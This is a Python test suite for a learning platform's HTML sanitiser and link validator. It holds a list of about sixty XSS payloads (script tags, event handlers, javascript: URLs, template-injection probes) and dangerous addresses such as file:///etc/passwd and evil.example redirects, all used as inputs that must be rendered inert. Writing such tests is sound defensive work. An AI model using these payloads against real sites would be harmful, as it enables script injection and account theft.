"""Nothing an author or a bug could put into a page does anything there."""

from __future__ import annotations

import re
import time
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import nh3
import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it.token import Token

from lms.content import sanitise
from lms.content.compile import compile as compile_course
from lms.content.compiled import compiled_json
from lms.content.course import Asked, Course, Doing, Filling, Matching, Ordering, Row, Step, Text
from lms.content.freeze import freeze
from lms.content.release import Release
from lms.content.render import attribute, text_html
from lms.content.sanitise import address_is_allowed, bleached, faults, is_ours, is_proven, read_again
from tests.content.handmade import (
    blocks,
    course,
    fact,
    frozen,
    gaps,
    lesson,
    line,
    match,
    module,
    order,
    question,
    quiz,
    rate,
    reading,
    task,
    term,
)

COURSES = Path(__file__).parents[2] / "courses"

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<IMG SRC=javascript:alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<form action=javascript:alert(1)><button>x",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style=width:expression(alert(1))>x</p>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</p></div></main><h1>Sign in again</h1>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "` onclick=`alert(1)",
    '" id="config" name="__proto__',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "＜script＞alert(1)＜/script＞",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "{{7*7}}",
    "{% import os %}{{ config }}",
    "${7*7}#{7*7}",
    "%(secret)s {0.__class__.__mro__}",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    '=HYPERLINK("//evil.example")',
    "<plaintext><img src=x onerror=alert(1)>",
]
"""More than sixty; none may do anything wherever it is typed."""

REFUSED = {"link-address", "link-unpublished", "markup", "picture-missing"}
"""What a freeze says of what it will not show; none of them means that a wall had to hold."""

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&amp;#106;avascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "//evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "/%09/evil.example",
    "https:evil.example",
    "https:/evil.example",
    "https:///evil.example",
    "https://",
    "https://?x",
    "https://user@evil.example/",
    "https://bank.example\\@evil.example/",
    "https://evil.example:99999/",
    "https://[evil/",
    "http://evil.example",
    "ftp://evil.example",
    "/sign-out",
    "/courses/../admin",
    "/files/../admin",
    "/files/&#46;&#46;/admin",
    "/courses/a/b/c/d",
    "/courses/a?next=//evil.example",
    "#config",
    "#c-x y",
    "mailto:",
    "mailto:a@b@c",
    "mailto:a@example.org?bcc=everyone@example.org",
    "mailto:a@example.org%0d%0abcc:b@example.org\n",
    "tel:*#06#",
    "tel:",
    "sms:abc",
    "",
]


# --- addresses ------------------------------------------------------------------------------------


@pytest.mark.parametrize("address", ADDRESSES)
def test_an_address_that_leads_astray_is_refused(address: str) -> None:
    assert not address_is_allowed(address)


@pytest.mark.parametrize(
    "address",
    [
        "https://www.example.org",
        "https://www.example.org:8443/a/b?c=1&d=2#e",
        "https://en.example.org/wiki/Murphy's_law_(adage)",
        "https://example.org/@someone",
        "https://xn--bcher-kva.example/%C3%A9",
        "mailto:help@example.org",
        "tel:+441632960961",
        "tel:116123",
        "sms:07700900123?body=HELP",
        "/courses/online-safety",
        "/courses/online-safety/passwords/strong?step=q-strong",
        f"/files/{'0' * 64}",
        "#c-term-browser",
    ],
)
def test_an_ordinary_address_is_allowed(address: str) -> None:
    assert address_is_allowed(address)


# --- hostile strings ------------------------------------------------------------------------------


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_string_shown_as_text_does_nothing(hostile: str) -> None:
    """In every place of a course that shows text, through tokens no file could make."""
    release = frozen(_everywhere(Text((_inline(_text(hostile)),), 1)))
    for html in _pieces(release):
        _assert_inert(html)
    shown = release.pages["safety", "strong"][0]
    assert _words(shown.html) == _words(shown.title) == hostile


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_string_typed_as_markdown_is_refused_or_does_nothing(hostile: str) -> None:
    result = freeze(_everywhere(line(hostile)))
    if result.release is None:
        assert {problem.code for problem in result.problems} <= REFUSED
    else:
        for html in _pieces(result.release):
            _assert_inert(html)


@pytest.mark.parametrize("hostile", [*HOSTILE, *ADDRESSES])
def test_a_hostile_address_never_becomes_a_link_or_picture(hostile: str) -> None:
    link = [Token("link_open", "a", 1, {"href": hostile}), _text("it"), Token("link_close", "a", -1)]
    result = freeze(_everywhere(Text((_inline(*link),), 1)))
    assert result.release is None
    picture = Token("image", "img", 0, {"src": hostile}, children=[_text("it")])
    assert freeze(_everywhere(Text((_inline(picture),), 1))).release is None


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_description_or_title_stays_inside_its_quotes(hostile: str) -> None:
    picture = Token("image", "img", 0, {"src": "padlock.svg"}, children=[_text(hostile)])
    link = Token("link_open", "a", 1, {"href": "https://www.example.org", "title": hostile})
    whole = Text((_inline(picture, link, _text("it"), Token("link_close", "a", -1)),), 1)
    release = frozen(_everywhere(whole))
    for html in _pieces(release):
        _assert_inert(html)
    html = release.pages["safety", "strong"][0].html
    assert _attributes(html, "img")["alt"] == " ".join(hostile.split())
    assert _attributes(html, "a")["title"] == hostile


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_string_given_as_markup_is_never_passed(hostile: str) -> None:
    """As if the renderer had forgotten to escape: the walls behind it hold by themselves."""
    if re.search("[<>&]", hostile) and text_html(hostile) != hostile:
        assert faults(f"<p>{hostile}</p>") or _is_only_text(hostile)
    _assert_inert(bleached(f"<p>{hostile}</p>"))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_author_text_is_never_read_as_a_template(hostile: str) -> None:
    release = frozen(_everywhere(Text((_inline(_text(hostile)),), 1)))
    assert "49" not in release.pages["safety", "strong"][0].html


def test_the_outside_collection_does_nothing_either(corpus: Path) -> None:
    """Strings other projects collected; where LMS_CORPUS names their folder."""
    for path in sorted((corpus / "xss").rglob("*")):
        if path.suffix in (".json", ".md"):
            for typed in path.read_text("utf-8").splitlines():
                for html in (f"<p>{text_html(typed)}</p>", bleached(typed)):
                    _assert_inert(html)


# --- the walls ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        "<section>x</section>",
        '<p id="config">x</p>',
        '<p class="exit">x</p>',
        '<a href="#c-x" id="config">x</a>',
        '<a href="#c-x" onclick="x">y</a>',
        '<a href="/courses/a"><a href="/courses/b">x</a></a>',
        "<a href>x</a>",
        '<img src="https://evil.example/a.png" alt="x">',
        f'<img src="/files/{"0" * 64}" alt="x" onerror="x">',
        f'<img src="/files/{"0" * 64}" alt="x" width="1e9">',
        '<p style="color: red">x</p>',
        "<p><div>x</div></p>",
        "<ul>words</ul>",
        "<p><li>x</li></p>",
        "<table><td>x</td></table>",
        "<p>x",
        "x</p>",
        "<p>x</div>",
        "<br/><span>x</span>",
        "<span>a > b</span>",
        "<span>&nbsp;</span>",
        "<span>&#60;</span>",
        "<span><!-- note --></span>",
        "<span><!doctype html></span>",
        "<span><?php x ?></span>",
        "<span><![CDATA[x]]></span>",
    ],
)
def test_the_second_reading_turns_away(html: str) -> None:
    assert read_again(html)


def test_what_only_bleach_would_change_is_a_fault_too() -> None:
    changed = '<a href="https://www.example.org">a\x07b</a>'
    assert not read_again(changed)
    assert faults(changed) == ("it would not pass unchanged",)


def test_a_fault_stops_the_freeze_with_a_sentence(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("lms.content.render.attribute", lambda value: value)
    monkeypatch.setattr("lms.content.render.text_html", lambda value: value)
    result = freeze(_everywhere(Text((_inline(_text("<script>alert(1)</script>")),), 1)))
    assert result.release is None
    assert str(result.problems[0]).startswith(
        "course.md:1:1: this can't be shown safely: <script> is not a tag of ours. Write it in plain Markdown."
    )


def test_deep_or_endless_markup_never_reaches_bleach() -> None:
    started = time.process_time()
    assert is_proven("<div>" * 20_000 + "x")
    assert not is_proven("<div>" * 20_000 + "<")
    assert faults('<a href="#c-x">' * 5_000)
    assert faults("<" * 50_000)
    assert faults("&" * 50_000)
    assert time.process_time() - started < 5


def test_an_old_bleach_is_not_used(monkeypatch: pytest.MonkeyPatch) -> None:
    import bleach

    from lms.errors import CannotRun

    monkeypatch.setattr(bleach, "__version__", "6.3.0")
    sanitise._cleaner.cache_clear()
    with pytest.raises(CannotRun, match=r"bleach 6\.3\.0 has known holes"):
        bleached("x")
    monkeypatch.undo()
    assert bleached("x") == "x"


# --- laws -----------------------------------------------------------------------------------------

TEXT = st.text(st.characters(exclude_categories=["Cc", "Cs"], include_characters="\n\t"), max_size=20)
HASH = "0" * 64
SIZES = st.sampled_from(["", ' width="9" height="9"'])
PICTURES = st.tuples(TEXT, SIZES).map(
    lambda it: f'<img src="/files/{HASH}" alt="{attribute(it[0])}"{it[1]} loading="lazy">'
)
OPENERS = st.sampled_from(
    [
        '<a href="/courses/a/b/c?step=d">',
        '<a class="term" id="c-use-term-x" href="#c-term-x">',
        '<a id="c-use-fact-x" href="#c-fact-x">',
        f'<a href="/files/{"0" * 64}">',
    ]
)
GAP = '<span class="gap" id="gap-12"></span>'
LINKS = st.tuples(OPENERS, TEXT.map(text_html) | PICTURES).map(lambda it: f"{it[0]}{it[1]}</a>")
INLINE = st.recursive(
    st.one_of(TEXT.map(text_html), PICTURES, LINKS, st.just('<span class="term">x</span>'), st.just(GAP)),
    lambda inner: st.tuples(st.sampled_from(["em", "strong", "code", "del"]), st.lists(inner, max_size=3)).map(
        lambda pair: f"<{pair[0]}>{''.join(pair[1])}</{pair[0]}>"
    ),
    max_leaves=6,
)
WORDS = st.lists(INLINE, max_size=4).map("".join)


def _in(opener: str, closer: str, inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    return st.lists(inner, max_size=3).map(lambda parts: f"{opener}{''.join(parts)}{closer}")


def _containers(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    items = _in("<li>", "</li>", st.one_of(inner, WORDS))
    cells = st.one_of(_in("<td>", "</td>", WORDS), _in('<th scope="col">', "</th>", WORDS))
    entries = st.tuples(_in("<dt>", "</dt>", WORDS), _in("<dd>", "</dd>", inner)).map("".join)
    return st.one_of(
        _in("<ul>", "</ul>", items),
        _in("<ol>", "</ol>", items),
        _in("<blockquote>", "</blockquote>", inner),
        _in('<div class="callout callout-tip" role="note"><p class="callout-kind">Tip</p>', "</div>", inner),
        _in('<div class="meanings"><dl>', "</dl></div>", entries),
        _in("<table><tbody>", "</tbody></table>", _in("<tr>", "</tr>", cells)),
    )


BLOCKS = st.recursive(
    st.one_of(
        WORDS.map(lambda words: f"<p>{words}</p>"),
        TEXT.map(lambda text: f"<pre><code>{text_html(text)}</code></pre>"),
        st.just("<hr>"),
        st.just("<p>a<br>b</p>"),
    ),
    _containers,
    max_leaves=8,
)
TAGS = st.one_of(
    st.sampled_from([f"<{slash}{tag}>" for tag in sorted(sanitise._TAGS) for slash in ("", "/")]),
    OPENERS,
    st.sampled_from([GAP, '<dt id="c-x">', '<span class="term">', '<p class="fact-source">', '<div class="meanings">']),
)


@given(BLOCKS)
@example("<p>&amp;amp; &amp;lt;b&amp;gt; &lt;!-- \" ' ` &amp;copy</p>")
def test_bleach_and_nh3_leave_what_is_ours_as_it_is(block: str) -> None:
    if is_ours(block) and not read_again(block):
        assert bleached(block) == block
        assert _events(_by_nh3(block)) == _events(block)


@given(st.lists(st.one_of(TAGS, TEXT.map(text_html)), max_size=12).map("".join))
def test_any_well_formed_block_of_ours_is_left_by_bleach(block: str) -> None:
    if is_ours(block) and not read_again(block):
        assert bleached(block) == block


@given(st.text(max_size=80))
def test_any_text_is_inert_once_escaped(text: str) -> None:
    _assert_inert(f"<p>{text_html(text)}</p>")
    assert _attributes(f'<a title="{attribute(text)}">', "a")["title"] == text


MARKS = (
    *("word", "two words", " ", "\n", "\n\n", "- ", "1. ", "> ", "> [!TIP]\n> ", "`", "```\n", "*", "**", "~~", "\\"),
    *("[", "](", ")", "![", "](padlock.svg)", "(https://example.org)", "(glossary.md#browser)", "(facts.md#fraud)"),
    *("<", ">", "&", "&amp;", "&lt;", '"', "'", "</p>", "<b>", "javascript:", "| a | b |\n|---|---|\n| c | d |\n"),
    "0300 123 2040",
)
MARKDOWN = st.lists(st.sampled_from(MARKS), max_size=25).map("".join)


@given(MARKDOWN)
def test_a_page_of_any_markdown_passes_both_walls_and_nh3_unchanged(typed: str) -> None:
    result = freeze(_course(blocks(typed)))
    if result.release is None:
        assert {problem.code for problem in result.problems} <= REFUSED
        return
    for html in _pieces(result.release):
        assert not read_again(html)
        assert bleached(html) == html
        assert _events(_by_nh3(html)) == _events(html)


@pytest.mark.parametrize(
    "folder", sorted(path.parent for path in COURSES.glob("*/course.md")), ids=lambda path: path.name
)
def test_every_page_of_our_own_courses_passes_both_walls_and_nh3_unchanged(folder: Path) -> None:
    """Also the blocks that skip bleach because they are proven."""
    files = {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}
    compiled = compile_course(files)
    assert compiled.course, "\n".join(map(str, compiled.problems))
    for html in _pieces(frozen(compiled.course)):
        assert not read_again(html)
        assert bleached(html) == html
        assert _events(_by_nh3(html)) == _events(html)


# --- helpers --------------------------------------------------------------------------------------


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.events: list[tuple[str, ...]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.events.append(("open", tag, *(f"{name}={value}" for name, value in sorted(attrs, key=str))))

    def handle_endtag(self, tag: str) -> None:
        self.events.append(("close", tag))

    def handle_data(self, data: str) -> None:
        if self.events and self.events[-1][0] == "text":
            data = self.events.pop()[1] + data
        self.events.append(("text", data))


def _events(html: str) -> list[tuple[str, ...]]:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.events


def _assert_inert(html: str) -> None:
    """Judged by tables of the test's own: no active tag, no handler, no style, no address that runs."""
    for event in _events(html):
        if event[0] == "open":
            assert event[1] in sanitise._TAGS, html
            for attr in event[2:]:
                name, _, value = attr.partition("=")
                assert not name.startswith("on"), html
                assert name not in ("style", "srcdoc", "name", "formaction"), html
                if name in ("href", "src"):
                    assert re.match(r"https://|/files/|/courses/|#c-|mailto:|tel:|sms:", value), html
                if name == "id":
                    assert value.startswith("c-") or re.fullmatch(r"gap-\d+", value), html


def _by_nh3(html: str) -> str:
    attributes = {tag: set(rules) for tag, rules in sanitise._RULES.items()}
    for tag in sanitise._CLASSES:
        attributes.setdefault(tag, set()).add("class")
    schemes = {"https", "mailto", "tel", "sms"}
    tags = set(sanitise._TAGS)
    return nh3.clean(html, tags=tags, attributes=attributes, url_schemes=schemes, link_rel=None, strip_comments=True)


def _words(html: str) -> str:
    return "".join(event[1] for event in _events(html) if event[0] == "text")


def _attributes(html: str, tag: str) -> dict[str, str]:
    found = next(event for event in _events(html) if event[:2] == ("open", tag))
    return dict(attr.split("=", 1) for attr in found[2:])


def _is_only_text(html: str) -> bool:
    return all(event[0] == "text" for event in _events(html))


def _text(words: str) -> Token:
    return Token("text", "", 0, content=words)


def _inline(*children: Token) -> Token:
    return Token("inline", "", 0, children=list(children))


def _everywhere(text: Text) -> Course:
    """A course that shows one inline text in every place there is."""
    asked = question("q", "x a", "b", title="T", hints=(text,), explains=(text,))
    options = tuple(replace(option, text=option.text, feedback=text) for option in asked.asked.options)
    hostile = (replace(options[0], text=text), options[1])
    asked = replace(asked, title=text, body=text, asked=replace(asked.asked, options=hostile))
    made = module(
        "safety",
        replace(
            lesson("strong", replace(reading("r"), title=text), asked, rate("s"), *_all_kinds(text)),
            title=text,
            body=text,
        ),
        quiz=replace(quiz(question("q2", "x a", "b")), title=text, body=text),
        title=text,
        welcome=text,
    )
    terms = {"browser": replace(term("browser", ""), title=text, body=text)}
    facts = {"fraud": replace(fact("fraud", ""), title=text, body=text)}
    return course(made, title=text, welcome=text, terms=terms, facts=facts, help=("fraud",))


def _all_kinds(text: Text) -> list[Step]:
    """A step of each other kind that shows texts of its own, with one of them in every place."""
    put, pair = order("o", "a", "b"), match("m", "a = b", "c = d")
    fill, do = gaps("g", "[[a]] or [[b]]"), task("t", "a")
    rows = (Row(text, line("d")), Row(line("a"), text))
    asked: list[Asked] = [
        Ordering((text, line("b"))),
        Matching(rows, (text, text)),
        Filling((text, line("b")), (line("c"),)),
        Doing((text,), (), "", (text,)),
    ]
    return [replace(step, asked=it, title=text) for step, it in zip((put, pair, fill, do), asked, strict=True)]


def _course(body: Text) -> Course:
    terms, facts = {"browser": term("browser", "An app.")}, {"fraud": fact("fraud", "Ring 0300 123 2040.")}
    return course(module("safety", replace(lesson("strong"), body=body)), terms=terms, facts=facts)


def _pieces(release: Release) -> list[str]:
    """All HTML of a release, keys too."""
    assert compiled_json(release)
    fragments = [fragment for page in release.pages.values() for fragment in page]
    pieces = [html for it in fragments for html in (it.title, it.html, it.foot, *it.heads)]
    pieces += [html for it in fragments for _, html in (*it.options, *it.meanings)]
    for key in release.keys.values():
        pieces += [*key.feedback.values(), *key.hints, *key.explains, *key.look_for]
    return pieces


@pytest.mark.parametrize(
    ("block", "stays"),
    [
        ('<dt id="c-term-a" lang="en" dir="ltr">A</dt>', True),
        ('<div lang="ur" dir="rtl"><p>A</p></div>', True),
        ('<dt lang="zh-Hant" dir="ltr">A</dt>', True),
        ('<div lang="en" dir="auto"><p>A</p></div>', False),
        ('<div lang="x onclick=" dir="ltr"><p>A</p></div>', False),
        ('<p lang="en" dir="ltr">A</p>', False),
    ],
)
def test_only_what_falls_back_says_which_language_it_is_in(block: str, stays: bool) -> None:
    assert (faults(block) == ()) == stays
    assert (bleached(block) == block) == stays
